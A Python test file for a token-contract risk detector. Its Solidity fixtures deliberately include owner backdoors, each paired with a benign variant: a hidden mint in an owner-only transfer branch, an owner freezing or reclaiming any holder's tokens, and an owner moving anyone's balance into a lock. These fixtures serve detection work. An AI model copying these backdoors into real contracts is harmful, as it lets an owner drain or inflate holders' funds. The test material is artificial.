"""Contract facts on idioms found by comparing the detectors with cheap independent signals on the
unlabelled token sources (issue 13, sixth round): ERC-721 operator approvals and per-item
approvals (the holder's consent, no role), lists whose length is the supply (an element written is
no mint or burn), OpenZeppelin 5's ``_update`` called directly (in an entry point and in a
constructor), a hidden mint in an owner-only transfer branch, a farm token keeping the project's
token as a bare address, an owner parking any holder's tokens in a frozen bucket, and an owner
moving anyone's tokens into a lock for someone else. Each power appears with and without it; every
source is written for these tests in the style of the public templates of the time (OpenZeppelin
1.x/2.x and CryptoKitties-style ERC-721 on 0.4.24, ERC-1132 locks on 0.5, PancakeSwap farms on 0.8,
OpenZeppelin Contracts 5.0 on 0.8), compiled with the local solc-js.
"""

from __future__ import annotations

import pytest

from .test_round4_idioms import OZ5_BASE

pytestmark = pytest.mark.slow

# a 2018 collectibles contract after OpenZeppelin's ERC721BasicToken: a holder names operators for
# all their items (setApprovalForAll); transferFrom passes for the holder, the approved address or
# an operator the holder named
COLLECTIBLES = """pragma solidity ^0.4.24;
library SafeMath {
    function sub(uint256 a, uint256 b) internal pure returns (uint256) { assert(b <= a); return a - b; }
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) { c = a + b; assert(c >= a); return c; }
}
contract Ownable {
    address public owner;
    constructor() public { owner = msg.sender; }
    modifier onlyOwner() { require(msg.sender == owner); _; }
    function transferOwnership(address newOwner) public onlyOwner { require(newOwner != address(0)); owner = newOwner; }
}
contract ShipCollectibles is Ownable {
    using SafeMath for uint256;
    string public constant name = "Harbour Ships";
    string public constant symbol = "SHIP";
    event Transfer(address indexed _from, address indexed _to, uint256 indexed _tokenId);
    event Approval(address indexed _owner, address indexed _approved, uint256 indexed _tokenId);
    event ApprovalForAll(address indexed _owner, address indexed _operator, bool _approved);

    mapping (uint256 => address) internal shipOwner;
    mapping (uint256 => address) internal shipApprovals;
    mapping (address => uint256) internal ownedShipsCount;
    mapping (address => mapping (address => bool)) internal operatorApprovals;
    uint256[] internal allShips;

    modifier canTransfer(uint256 _shipId) {
        require(isApprovedOrOwner(msg.sender, _shipId));
        _;
    }
    function balanceOf(address _owner) public view returns (uint256) {
        require(_owner != address(0));
        return ownedShipsCount[_owner];
    }
    function ownerOf(uint256 _shipId) public view returns (address) {
        address holder = shipOwner[_shipId];
        require(holder != address(0));
        return holder;
    }
    function totalSupply() public view returns (uint256) { return allShips.length; }
    function approve(address _to, uint256 _shipId) public {
        address holder = ownerOf(_shipId);
        require(_to != holder);
        require(msg.sender == holder || isApprovedForAll(holder, msg.sender));
        shipApprovals[_shipId] = _to;
        emit Approval(holder, _to, _shipId);
    }
    function getApproved(uint256 _shipId) public view returns (address) { return shipApprovals[_shipId]; }
    function setApprovalForAll(address _to, bool _approved) public {
        require(_to != msg.sender);
        operatorApprovals[msg.sender][_to] = _approved;
        emit ApprovalForAll(msg.sender, _to, _approved);
    }
    function isApprovedForAll(address _owner, address _operator) public view returns (bool) {
        return operatorApprovals[_owner][_operator];
    }
    function transferFrom(address _from, address _to, uint256 _shipId) public canTransfer(_shipId) {
        require(_from != address(0) && _to != address(0));
        if (shipApprovals[_shipId] != address(0)) { shipApprovals[_shipId] = address(0); }
        require(shipOwner[_shipId] == _from);
        ownedShipsCount[_from] = ownedShipsCount[_from].sub(1);
        shipOwner[_shipId] = _to;
        ownedShipsCount[_to] = ownedShipsCount[_to].add(1);
        emit Transfer(_from, _to, _shipId);
    }
    function isApprovedOrOwner(address _spender, uint256 _shipId) internal view returns (bool) {
        address holder = ownerOf(_shipId);
        return _spender == holder || getApproved(_shipId) == _spender || isApprovedForAll(holder, _spender);
    }
    function launchShip(address _to, uint256 _shipId) public onlyOwner {
        require(_to != address(0) && shipOwner[_shipId] == address(0));
        shipOwner[_shipId] = _to;
        ownedShipsCount[_to] = ownedShipsCount[_to].add(1);
        allShips.push(_shipId);
        emit Transfer(address(0), _to, _shipId);
    }
}
"""
# the same contract where the owner names the operators of any holder (an admin power: the owner's
# pick may then move anyone's ships)
COLLECTIBLES_OWNER_OPERATORS = COLLECTIBLES.replace(
    "    function isApprovedForAll(",
    """    function setOperatorFor(address _holder, address _operator, bool _approved) public onlyOwner {
        operatorApprovals[_holder][_operator] = _approved;
    }
    function isApprovedForAll(""",
)


def test_operators_a_holder_names_are_consent_not_an_owner_power(source_facts):
    facts = source_facts(COLLECTIBLES)
    assert facts.token_contract == "ShipCollectibles"
    assert facts.owner_can_change_balances is False
    # the owner who fills anyone's operator list can have anyone's items moved
    assert source_facts(COLLECTIBLES_OWNER_OPERATORS).owner_can_change_balances is True


# an OpenZeppelin 5 token whose owner airdrops by calling _update(address(0), to, amount) directly
# (no _mint, so `to` is not checked against zero); burning is not offered
OZ5_AIRDROP = OZ5_BASE + """
contract DropToken is ERC20, Ownable {
    constructor() ERC20("Drop", "DRP") Ownable(msg.sender) { _mint(msg.sender, 500000000 * 10 ** decimals()); }
    function airdrop(address[] calldata recipients, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < recipients.length; i++) {
            _update(address(0), recipients[i], amount);
        }
    }
}
"""
# the same token with a holder's own burn
OZ5_AIRDROP_BURN = OZ5_AIRDROP.replace(
    "    function airdrop(",
    "    function burn(uint256 amount) external { _update(msg.sender, address(0), amount); }\n    function airdrop(",
)


def test_update_called_with_a_zero_sender_and_an_unchecked_recipient_is_no_burn(source_facts):
    drop = source_facts(OZ5_AIRDROP)
    assert drop.can_mint_after_deploy is True
    assert {e.reason.split("()")[0] for e in drop.evidence["can_mint_after_deploy"]} == {"airdrop"}
    # `to == address(0)` stays open in airdrop(), but `from` is zero there: no balance goes down
    assert drop.burnable is False
    burn = source_facts(OZ5_AIRDROP_BURN)
    assert burn.burnable is True
    assert {e.reason.split("()")[0] for e in burn.evidence["burnable"]} == {"burn"}


# a 2018 token whose transfer() takes a shortcut for the owner: the owner's transfers credit the
# recipient without debiting anyone (tokens made out of nothing, totalSupply left as it was)
OWNER_BRANCH = """pragma solidity ^0.4.24;
library SafeMath {
    function sub(uint256 a, uint256 b) internal pure returns (uint256) { assert(b <= a); return a - b; }
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) { c = a + b; assert(c >= a); return c; }
}
contract Ownable {
    address public owner;
    constructor() public { owner = msg.sender; }
    modifier onlyOwner() { require(msg.sender == owner); _; }
}
contract RiverToken is Ownable {
    using SafeMath for uint256;
    string public name = "River Token";
    string public symbol = "RVR";
    uint8 public decimals = 18;
    uint256 public totalSupply = 100000000 * 10 ** 18;
    mapping (address => uint256) balances;
    mapping (address => mapping (address => uint256)) allowed;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public { balances[msg.sender] = totalSupply; }
    function balanceOf(address _who) public view returns (uint256) { return balances[_who]; }
    function transfer(address _to, uint256 _value) public returns (bool) {
        require(_to != address(0));
        if (msg.sender == owner) {
            OWNER_BRANCH
        } else {
            require(_value <= balances[msg.sender]);
            balances[msg.sender] = balances[msg.sender].sub(_value);
            balances[_to] = balances[_to].add(_value);
        }
        emit Transfer(msg.sender, _to, _value);
        return true;
    }
    function transferFrom(address _from, address _to, uint256 _value) public returns (bool) {
        require(_to != address(0) && _value <= balances[_from] && _value <= allowed[_from][msg.sender]);
        balances[_from] = balances[_from].sub(_value);
        balances[_to] = balances[_to].add(_value);
        allowed[_from][msg.sender] = allowed[_from][msg.sender].sub(_value);
        emit Transfer(_from, _to, _value);
        return true;
    }
    function approve(address _spender, uint256 _value) public returns (bool) {
        allowed[msg.sender][_spender] = _value;
        emit Approval(msg.sender, _spender, _value);
        return true;
    }
    function allowance(address _owner, address _spender) public view returns (uint256) { return allowed[_owner][_spender]; }
}
"""
OWNER_CREDITS_FROM_NOTHING = OWNER_BRANCH.replace("OWNER_BRANCH", "balances[_to] = balances[_to].add(_value);")
# the owner's branch only skips the balance check of the others (the owner still pays)
OWNER_PAYS = OWNER_BRANCH.replace(
    "OWNER_BRANCH", "balances[owner] = balances[owner].sub(_value);\n            balances[_to] = balances[_to].add(_value);"
)


def test_owner_branch_of_transfer_that_credits_without_a_debit_mints(source_facts):
    hidden = source_facts(OWNER_CREDITS_FROM_NOTHING)
    assert hidden.token_contract == "RiverToken"
    assert hidden.can_mint_after_deploy is True
    assert {e.reason.split("()")[0] for e in hidden.evidence["can_mint_after_deploy"]} == {"transfer"}
    pays = source_facts(OWNER_PAYS)
    assert pays.can_mint_after_deploy is False


# a 2018 game after the CryptoKitties core: an item's holder and its approved taker are recorded
# per item id (`uint256 => address`); transferFrom asks whether the caller was approved for it
GAME_ITEMS = """pragma solidity ^0.4.24;
contract AccessControl {
    address public ceoAddress;
    bool public paused = false;
    constructor() public { ceoAddress = msg.sender; }
    modifier onlyCEO() { require(msg.sender == ceoAddress); _; }
    modifier whenNotPaused() { require(!paused); _; }
    function setCEO(address _newCEO) external onlyCEO { require(_newCEO != address(0)); ceoAddress = _newCEO; }
    function pause() external onlyCEO { paused = true; }
    function unpause() external onlyCEO { paused = false; }
}
contract DragonOwnership is AccessControl {
    string public constant name = "Dragon Eggs";
    string public constant symbol = "EGG";
    event Transfer(address from, address to, uint256 tokenId);
    event Approval(address owner, address approved, uint256 tokenId);
    struct Dragon { uint64 birthTime; uint32 genes; }
    Dragon[] dragons;
    mapping (uint256 => address) public dragonIndexToOwner;
    mapping (address => uint256) ownershipTokenCount;
    mapping (uint256 => address) public dragonIndexToApproved;

    function _owns(address _claimant, uint256 _tokenId) internal view returns (bool) {
        return dragonIndexToOwner[_tokenId] == _claimant;
    }
    function _approvedFor(address _claimant, uint256 _tokenId) internal view returns (bool) {
        return dragonIndexToApproved[_tokenId] == _claimant;
    }
    function _transfer(address _from, address _to, uint256 _tokenId) internal {
        ownershipTokenCount[_to]++;
        dragonIndexToOwner[_tokenId] = _to;
        if (_from != address(0)) {
            ownershipTokenCount[_from]--;
            delete dragonIndexToApproved[_tokenId];
        }
        emit Transfer(_from, _to, _tokenId);
    }
    function balanceOf(address _owner) public view returns (uint256 count) { return ownershipTokenCount[_owner]; }
    function transfer(address _to, uint256 _tokenId) external whenNotPaused {
        require(_to != address(0) && _to != address(this));
        require(_owns(msg.sender, _tokenId));
        _transfer(msg.sender, _to, _tokenId);
    }
    function approve(address _to, uint256 _tokenId) external whenNotPaused {
        require(_owns(msg.sender, _tokenId));
        dragonIndexToApproved[_tokenId] = _to;
        emit Approval(msg.sender, _to, _tokenId);
    }
    function transferFrom(address _from, address _to, uint256 _tokenId) external whenNotPaused {
        require(_to != address(0) && _to != address(this));
        require(_approvedFor(msg.sender, _tokenId));
        require(_owns(_from, _tokenId));
        _transfer(_from, _to, _tokenId);
    }
    function totalSupply() public view returns (uint256) { return dragons.length - 1; }
    function ownerOf(uint256 _tokenId) external view returns (address owner) {
        owner = dragonIndexToOwner[_tokenId];
        require(owner != address(0));
    }
    function hatch(uint32 _genes, address _owner) external onlyCEO returns (uint256) {
        uint256 newId = dragons.push(Dragon(uint64(now), _genes)) - 1;
        _transfer(0, _owner, newId);
        return newId;
    }
}
"""
# the same game whose CEO can take back any egg from its holder
GAME_ITEMS_RECLAIM = GAME_ITEMS.replace(
    "    function totalSupply()",
    """    function reclaim(address _from, uint256 _tokenId) external onlyCEO {
        require(_owns(_from, _tokenId));
        _transfer(_from, ceoAddress, _tokenId);
    }
    function totalSupply()""",
)


def test_an_item_approval_recorded_per_id_is_no_role(source_facts):
    facts = source_facts(GAME_ITEMS)
    assert facts.token_contract == "DragonOwnership"
    assert facts.owner_can_change_balances is False
    assert facts.pausable is True  # the CEO's switch is still a role's
    reclaim = source_facts(GAME_ITEMS_RECLAIM)
    assert reclaim.owner_can_change_balances is True
    assert {e.reason.split("()")[0] for e in reclaim.evidence["owner_can_change_balances"]} == {"reclaim"}


# a 2018 collectibles market whose totalSupply() is the length of its list of cards: the owner
# creates cards (a push), holders list theirs for sale and buyers take them; writing a card's
# fields changes no supply
CARD_MARKET = """pragma solidity ^0.4.24;
contract Ownable {
    address public owner;
    constructor() public { owner = msg.sender; }
    modifier onlyOwner() { require(msg.sender == owner); _; }
}
contract CardMarket is Ownable {
    string public constant name = "Pitch Cards";
    string public constant symbol = "PCD";
    event Transfer(address from, address to, uint256 tokenId);
    struct Card { uint32 power; uint128 price; bool forSale; }
    Card[] public cards;
    mapping (uint256 => address) public cardOwner;
    mapping (address => uint256) public cardCount;

    function totalSupply() public view returns (uint256) { return cards.length; }
    function balanceOf(address _owner) public view returns (uint256) { return cardCount[_owner]; }
    function _transfer(address _from, address _to, uint256 _id) internal {
        cardCount[_to]++;
        cardOwner[_id] = _to;
        if (_from != address(0)) { cardCount[_from]--; }
        emit Transfer(_from, _to, _id);
    }
    function transfer(address _to, uint256 _id) external {
        require(cardOwner[_id] == msg.sender && _to != address(0));
        cards[_id].forSale = false;
        _transfer(msg.sender, _to, _id);
    }
    function createCard(uint32 _power, address _to) external onlyOwner returns (uint256) {
        uint256 id = cards.push(Card(_power, 0, false)) - 1;
        _transfer(address(0), _to, id);
        return id;
    }
    function listForSale(uint256 _id, uint128 _price) external {
        require(cardOwner[_id] == msg.sender);
        cards[_id].price = _price;
        cards[_id].forSale = true;
    }
    function buy(uint256 _id) external payable {
        Card storage card = cards[_id];
        require(card.forSale && msg.value >= card.price);
        address seller = cardOwner[_id];
        card.forSale = false;
        card.price = 0;
        _transfer(seller, msg.sender, _id);
        seller.transfer(msg.value);
    }
}
"""


def test_writing_an_element_of_the_list_counted_as_supply_is_no_mint_or_burn(source_facts):
    facts = source_facts(CARD_MARKET)
    assert facts.token_contract == "CardMarket"
    # only the push makes a card; listing or buying one rewrites its fields
    assert facts.can_mint_after_deploy is True
    assert {e.reason.split("()")[0] for e in facts.evidence["can_mint_after_deploy"]} == {"createCard"}
    assert facts.burnable is False


# a farm's receipt token keeping the project's token as a bare address (PancakeSwap's SyrupBar
# written with `address public cake` and a conversion at each call), beside the farm itself
FARM_BARE = """// SPDX-License-Identifier: MIT
pragma solidity ^0.8.4;
interface IBEP20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
}
contract Ownable {
    address private _owner;
    constructor() { _owner = msg.sender; }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function owner() public view returns (address) { return _owner; }
    function transferOwnership(address newOwner) public onlyOwner { _owner = newOwner; }
}
contract BEP20 is IBEP20, Ownable {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 private _totalSupply;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    constructor(string memory name_, string memory symbol_) { name = name_; symbol = symbol_; }
    function totalSupply() public view override returns (uint256) { return _totalSupply; }
    function balanceOf(address account) public view override returns (uint256) { return _balances[account]; }
    function transfer(address recipient, uint256 amount) public override returns (bool) { _transfer(msg.sender, recipient, amount); return true; }
    function allowance(address owner_, address spender) public view override returns (uint256) { return _allowances[owner_][spender]; }
    function approve(address spender, uint256 amount) public override returns (bool) { _allowances[msg.sender][spender] = amount; return true; }
    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        _allowances[sender][msg.sender] -= amount;
        _transfer(sender, recipient, amount);
        return true;
    }
    function _transfer(address sender, address recipient, uint256 amount) internal {
        require(sender != address(0) && recipient != address(0), "BEP20: zero address");
        _balances[sender] -= amount;
        _balances[recipient] += amount;
    }
    function _mint(address account, uint256 amount) internal {
        require(account != address(0), "BEP20: mint to the zero address");
        _totalSupply += amount;
        _balances[account] += amount;
    }
    function _burn(address account, uint256 amount) internal {
        require(account != address(0), "BEP20: burn from the zero address");
        _balances[account] -= amount;
        _totalSupply -= amount;
    }
}
contract LeafToken is BEP20("Leaf Token", "LEAF") {
    constructor() { _mint(msg.sender, 50000000 * 10 ** decimals); }
}
contract LeafSyrup is BEP20("Leaf Syrup", "LSYRUP") {
    address public leaf;
    constructor(address _leaf) { leaf = _leaf; }
    function mint(address _to, uint256 _amount) public onlyOwner { _mint(_to, _amount); }
    function burn(address _from, uint256 _amount) public onlyOwner { _burn(_from, _amount); }
    function safeLeafTransfer(address _to, uint256 _amount) public onlyOwner {
        uint256 leafBal = CONVERT(leaf).balanceOf(address(this));
        CONVERT(leaf).transfer(_to, _amount > leafBal ? leafBal : _amount);
    }
}
contract LeafFarm is Ownable {
    LeafToken public leaf;
    LeafSyrup public syrup;
    mapping(address => uint256) public staked;
    constructor(LeafToken _leaf, LeafSyrup _syrup) { leaf = _leaf; syrup = _syrup; }
    function enterStaking(uint256 _amount) public {
        leaf.transferFrom(msg.sender, address(syrup), _amount);
        staked[msg.sender] += _amount;
        syrup.mint(msg.sender, _amount);
    }
    function leaveStaking(uint256 _amount) public {
        staked[msg.sender] -= _amount;
        syrup.burn(msg.sender, _amount);
        syrup.safeLeafTransfer(msg.sender, _amount);
    }
}
"""
FARM_BARE_NAMED = FARM_BARE.replace("CONVERT", "LeafToken")
FARM_BARE_INTERFACE = FARM_BARE.replace("CONVERT", "IBEP20")
# a token that migrates holders from an old token it keeps as an address: it pulls, so it is the token
MIGRATING = FARM_BARE_INTERFACE.replace(
    "    function safeLeafTransfer(",
    "    function migrate(uint256 _amount) public { IBEP20(leaf).transferFrom(msg.sender, address(this), _amount); _mint(msg.sender, _amount); }\n    function safeLeafTransfer(",
)


def test_farm_token_keeping_the_project_token_as_a_bare_address(source_facts):
    for source in (FARM_BARE_NAMED, FARM_BARE_INTERFACE):
        facts = source_facts(source)
        assert facts.token_contract == "LeafToken"
        assert facts.can_mint_after_deploy is False  # the receipt token mints, the project's does not
    assert source_facts(MIGRATING).token_contract == "LeafSyrup"


# a 2018 token whose owner can park part of any holder's balance in a frozen bucket and release it
OWNER_FREEZE_BUCKET = """pragma solidity ^0.4.24;
contract SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) { uint256 c = a + b; assert(c >= a); return c; }
    function sub(uint256 a, uint256 b) internal pure returns (uint256) { assert(b <= a); return a - b; }
}
contract QuarryToken is SafeMath {
    string public name = "Quarry";
    string public symbol = "QRY";
    uint8 public decimals = 6;
    uint256 public totalSupply = 500000000 * 10 ** 6;
    address public owner;
    mapping (address => uint256) balances;
    mapping (address => uint256) frozen;
    mapping (address => mapping (address => uint256)) allowed;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Freeze(address indexed who, uint256 value);
    event Unfreeze(address indexed who, uint256 value);

    constructor() public { owner = msg.sender; balances[msg.sender] = totalSupply; }
    modifier onlyOwner() { require(msg.sender == owner); _; }
    function balanceOf(address _who) public view returns (uint256) { return balances[_who]; }
    function frozenOf(address _who) public view returns (uint256) { return frozen[_who]; }
    function transfer(address _to, uint256 _value) public returns (bool) {
        require(_to != address(0) && balances[msg.sender] >= _value);
        balances[msg.sender] = sub(balances[msg.sender], _value);
        balances[_to] = add(balances[_to], _value);
        emit Transfer(msg.sender, _to, _value);
        return true;
    }
    function transferFrom(address _from, address _to, uint256 _value) public returns (bool) {
        require(_to != address(0) && balances[_from] >= _value && allowed[_from][msg.sender] >= _value);
        balances[_from] = sub(balances[_from], _value);
        allowed[_from][msg.sender] = sub(allowed[_from][msg.sender], _value);
        balances[_to] = add(balances[_to], _value);
        emit Transfer(_from, _to, _value);
        return true;
    }
    function approve(address _spender, uint256 _value) public returns (bool) { allowed[msg.sender][_spender] = _value; return true; }
    function allowance(address _o, address _s) public view returns (uint256) { return allowed[_o][_s]; }
    function freeze(address _who, uint256 _value) public FREEZER returns (bool) {
        require(balances[_who] >= _value && _value > 0);
        balances[_who] = sub(balances[_who], _value);
        frozen[_who] = add(frozen[_who], _value);
        emit Freeze(_who, _value);
        return true;
    }
    function unfreeze(address _who, uint256 _value) public onlyOwner returns (bool) {
        require(frozen[_who] >= _value && _value > 0);
        frozen[_who] = sub(frozen[_who], _value);
        balances[_who] = add(balances[_who], _value);
        emit Unfreeze(_who, _value);
        return true;
    }
}
"""
OWNER_FREEZES = OWNER_FREEZE_BUCKET.replace("FREEZER", "onlyOwner")
# holders park their own tokens (the 2017 template: `_who` must be the caller) and the owner releases them
HOLDER_FREEZES = OWNER_FREEZE_BUCKET.replace("FREEZER", "").replace(
    "require(balances[_who] >= _value && _value > 0);", "require(_who == msg.sender && balances[_who] >= _value && _value > 0);"
)
# the owner parks, but any holder may take their own tokens back
HOLDER_RELEASES = OWNER_FREEZES.replace(
    "function unfreeze(address _who, uint256 _value) public onlyOwner returns (bool) {\n        require(",
    "function unfreeze(address _who, uint256 _value) public returns (bool) {\n        require(_who == msg.sender && ",
)

# the owner parks only the tokens of holders who opted in to staking
OPTED_IN = OWNER_FREEZES.replace(
    "    function freeze(address _who",
    "    mapping (address => bool) public stakingOptIn;\n    function optIn(bool _on) public { stakingOptIn[msg.sender] = _on; }\n    function freeze(address _who",
).replace("require(balances[_who] >= _value && _value > 0);\n        balances[_who] = sub(", "require(stakingOptIn[_who] && balances[_who] >= _value && _value > 0);\n        balances[_who] = sub(")


def test_owner_parking_a_holders_balance_in_a_frozen_bucket_freezes(source_facts):
    owner = source_facts(OWNER_FREEZES)
    assert owner.token_contract == "QuarryToken"
    assert owner.freeze_or_blacklist is True
    assert {e.reason.split("()")[0] for e in owner.evidence["freeze_or_blacklist"]} == {"freeze"}
    assert source_facts(HOLDER_FREEZES).freeze_or_blacklist is False
    assert source_facts(HOLDER_RELEASES).freeze_or_blacklist is False
    opted = source_facts(OPTED_IN)
    assert "stakingOptIn[_who]" in OPTED_IN
    assert opted.freeze_or_blacklist is False


# a 2019 token (ERC-1132 style locks per reason) whose owner moves tokens into a lock for a
# beneficiary: taken from any address it names, or only from the owner's own balance
LOCK_TRANSFER = """pragma solidity ^0.5.0;
library SafeMath {
    function sub(uint256 a, uint256 b) internal pure returns (uint256) { require(b <= a); return a - b; }
    function add(uint256 a, uint256 b) internal pure returns (uint256) { uint256 c = a + b; require(c >= a); return c; }
}
contract Ownable {
    address private _owner;
    constructor () internal { _owner = msg.sender; }
    function owner() public view returns (address) { return _owner; }
    modifier onlyOwner() { require(isOwner(), "not owner"); _; }
    function isOwner() public view returns (bool) { return msg.sender == _owner; }
}
contract GroveToken is Ownable {
    using SafeMath for uint256;
    string public constant name = "Grove";
    string public constant symbol = "GRV";
    uint8 public constant decimals = 18;
    struct LockToken { uint256 amount; uint256 validity; bool claimed; }
    mapping (address => uint256) private _balances;
    mapping (address => mapping (address => uint256)) private _allowed;
    mapping (address => mapping (bytes32 => LockToken)) public locked;
    uint256 private _totalSupply = 300000000 * 10 ** 18;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Locked(address indexed who, bytes32 indexed reason, uint256 amount, uint256 validity);

    constructor() public { _balances[msg.sender] = _totalSupply; }
    function totalSupply() public view returns (uint256) { return _totalSupply; }
    function balanceOf(address who) public view returns (uint256) { return _balances[who]; }
    function allowance(address o, address s) public view returns (uint256) { return _allowed[o][s]; }
    function approve(address s, uint256 v) public returns (bool) { _allowed[msg.sender][s] = v; return true; }
    function transfer(address to, uint256 value) public returns (bool) {
        require(to != address(0));
        _balances[msg.sender] = _balances[msg.sender].sub(value);
        _balances[to] = _balances[to].add(value);
        emit Transfer(msg.sender, to, value);
        return true;
    }
    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(to != address(0));
        _allowed[from][msg.sender] = _allowed[from][msg.sender].sub(value);
        _balances[from] = _balances[from].sub(value);
        _balances[to] = _balances[to].add(value);
        emit Transfer(from, to, value);
        return true;
    }
    function transferWithLock(SOURCE_PARAMaddress _to, bytes32 _reason, uint256 _amount, uint256 _time) public onlyOwner returns (bool) {
        require(_to != address(0) && _amount != 0 && locked[_to][_reason].amount == 0);
        _balances[SOURCE] = _balances[SOURCE].sub(_amount);
        locked[_to][_reason] = LockToken(_amount, now.add(_time), false);
        emit Locked(_to, _reason, _amount, now.add(_time));
        return true;
    }
    function claim(bytes32 _reason) public returns (bool) {
        LockToken storage entry = locked[msg.sender][_reason];
        require(entry.validity <= now && !entry.claimed && entry.amount > 0);
        entry.claimed = true;
        _balances[msg.sender] = _balances[msg.sender].add(entry.amount);
        return true;
    }
}
"""
LOCK_FROM_ANYONE = LOCK_TRANSFER.replace("SOURCE_PARAM", "address _from, ").replace("SOURCE", "_from")
LOCK_FROM_OWNER = LOCK_TRANSFER.replace("SOURCE_PARAM", "").replace("SOURCE", "msg.sender")


def test_owner_moving_anyones_tokens_into_a_lock_for_someone_else_changes_balances(source_facts):
    anyone = source_facts(LOCK_FROM_ANYONE)
    assert anyone.token_contract == "GroveToken"
    assert anyone.owner_can_change_balances is True
    assert {e.reason.split("()")[0] for e in anyone.evidence["owner_can_change_balances"]} == {"transferWithLock"}
    assert anyone.vesting_or_timelock is True
    # the owner locks only his own tokens; transferFrom still spends the holder's allowance
    assert source_facts(LOCK_FROM_OWNER).owner_can_change_balances is False


# the constructor mints to a treasury it is given through _update directly
OZ5_TREASURY = OZ5_BASE + """
contract TreasuryToken is ERC20, Ownable {
    constructor(address treasury) ERC20("Treasury", "TRS") Ownable(msg.sender) {
        _update(address(0), treasury, 75000000 * 10 ** decimals());
    }
}
"""


def test_constructor_minting_to_an_address_argument_through_update(source_facts):
    facts = source_facts(OZ5_TREASURY)
    assert facts.token_contract == "TreasuryToken"
    assert facts.initial_supply is not None and facts.initial_supply.raw == 75000000 * 10**18
    assert facts.can_mint_after_deploy is False and facts.burnable is False
